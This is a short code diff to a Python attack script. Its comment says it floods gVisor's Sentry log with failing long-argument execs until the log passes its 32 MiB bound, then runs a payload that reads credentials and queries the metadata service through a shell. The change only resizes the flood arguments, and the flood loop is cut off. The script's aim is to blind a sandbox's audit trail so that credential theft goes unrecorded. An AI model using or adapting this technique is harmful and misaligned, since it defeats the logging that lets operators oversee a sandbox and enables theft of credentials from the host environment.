@@ -1,9 +1,9 @@
 # Fill the kernel's trace with failing execs of long argv from a thread
-# (4,500 lines of 200 KB on gVisor's Sentry log: past its 32 MiB bound
+# (4,500 lines of 10 KB on gVisor's Sentry log: past its 32 MiB bound
 # even cut to their start and end), then run the payload: a credential
 # read and the metadata service through a shell.
 import os, subprocess, threading
-args = ["x"] + ["A" * 1000] * 200
+args = ["x"] + ["A" * 1000] * 10
 def flood():
     for i in range(4500):
         try:
